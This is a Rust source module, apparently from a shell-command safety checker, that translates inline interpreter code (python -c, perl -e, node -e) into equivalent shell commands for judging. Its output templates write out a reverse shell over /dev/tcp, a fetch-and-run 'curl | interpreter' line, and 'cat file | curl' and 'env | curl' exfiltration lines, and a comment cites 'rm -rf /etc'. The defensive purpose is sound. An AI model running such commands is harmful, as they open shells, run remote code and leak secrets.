//! Code of other languages that stands in a command: what it does, said as shell commands.
//!
//! Calls with literal arguments are found by their names (`shutil.rmtree('/etc')` is `rm -rf /etc`),
//! whatever the language: this reads one-liners, it does not understand programs.

mod effect;
mod scripts;

use crate::shell::field::{Field, UNKNOWN, mark};
use crate::shell::run::base_name;

mod scan;

use effect::{Seen, path_word, quote};
use scan::{Trait, scan};
pub(in crate::shell) use scripts::{awk, sed};

/// Layers of code in code of the same language.
const MOST_LAYERS: usize = 3;

#[derive(Clone, Copy, PartialEq, Eq)]
pub(in crate::shell) enum Language {
    Python,
    Perl,
    Ruby,
    JavaScript,
    Php,
    Other,
}

/// The commands that inline code amounts to; None where a program has no inline code.
pub(in crate::shell) fn commands(
    program: &str,
    args: &[Field],
    stdin: Option<&Field>,
) -> Option<Field> {
    let (language, options) = language(program)?;
    let code = match code_argument(args, options) {
        Some(code) => code,
        None if reads_stdin(args) => stdin?.clone(),
        None => return None,
    };
    if !code.says_something() {
        return None;
    }
    let said = say(&code.text, language, program, MOST_LAYERS);
    let mark = if said.contains(UNKNOWN) { mark::UNKNOWN } else { 0 };
    Some(Field { text: said, mark, sources: code.sources })
}

fn language(program: &str) -> Option<(Language, &'static [&'static str])> {
    let name = program.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    Some(match name {
        "python" | "pypy" | "ipython" | "python3" => (Language::Python, &["-c"]),
        "perl" => (Language::Perl, &["-e", "-E"]),
        "ruby" | "jruby" => (Language::Ruby, &["-e"]),
        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => {
            (Language::JavaScript, &["-e", "-p", "-pe", "--eval", "--print", "eval"])
        }
        "php" => (Language::Php, &["-r"]),
        "lua" | "luajit" | "Rscript" | "osascript" | "tclsh" | "julia" | "elixir" | "groovy" => {
            (Language::Other, &["-e", "-E"])
        }
        _ => return None,
    })
}

fn code_argument(args: &[Field], options: &[&str]) -> Option<Field> {
    let mut found: Option<Field> = None;
    for (at, arg) in args.iter().enumerate() {
        let text = arg.text.as_str();
        let attached = options.iter().filter(|option| option.len() == 2).find_map(|option| {
            text.strip_prefix(option).filter(|rest| rest.contains(['(', ' ', ';']))
        });
        let is_option = options.contains(&text)
            || (!text.starts_with("--")
                && text.len() > 2
                && text.len() < 9
                && text.starts_with('-')
                && options.iter().any(|option| option.len() == 2 && text.ends_with(&option[1..])));
        let code = match attached {
            Some(code) => arg.with_text(code),
            None if is_option => match args.get(at + 1) {
                Some(code) => code.clone(),
                None => continue,
            },
            // `python script.py -c x`: the option is the script's.
            None if !text.starts_with('-') && at == 0 => return None,
            None => continue,
        };
        let all = found.get_or_insert_with(Field::default);
        all.push(&code);
        all.text.push('\n');
    }
    found
}

fn reads_stdin(args: &[Field]) -> bool {
    let operand = args.iter().find(|arg| !arg.text.starts_with('-') || arg.text == "-");
    let has_module = args.iter().any(|arg| arg.text == "-m");
    !has_module && operand.is_none_or(|arg| matches!(arg.text.as_str(), "-" | "/dev/stdin"))
}

fn say(code: &str, language: Language, program: &str, layers: usize) -> String {
    let scan = scan(code, language);
    let mut said = String::new();
    let mut seen = Seen::default();
    let mut say_line = |line: &str| {
        said.push_str(line);
        said.push('\n');
    };
    for call in &scan.calls {
        if let Some(line) = effect::command(call, &scan, &mut seen) {
            say_line(&line);
        }
        if matches!(call.last(), "exec" | "eval") && layers > 0 && language == Language::Python {
            for literal in &call.literals {
                say_line(&say(literal, language, program, layers - 1));
            }
        }
    }
    let url = quote(seen.fetched.as_deref().unwrap_or("https://host"));
    let runs_text = |name| matches!(name, "exec" | "eval" | "Function");
    if seen.fetched.is_some() && scan.calls.iter().any(|call| runs_text(call.last())) {
        say_line(&format!("curl {url} | {}", base_name(program)));
    }
    if scan.opens_shell() {
        say_line("bash -i > /dev/tcp/host/port");
    }
    if scan.has(Trait::Sends) {
        for path in &seen.reads {
            say_line(&format!("cat {} | curl -d @- {url}", path_word(path)));
        }
        if scan.has(Trait::ReadsEnvironment) {
            say_line(&format!("env | curl -d @- {url}"));
        }
    }
    said
}
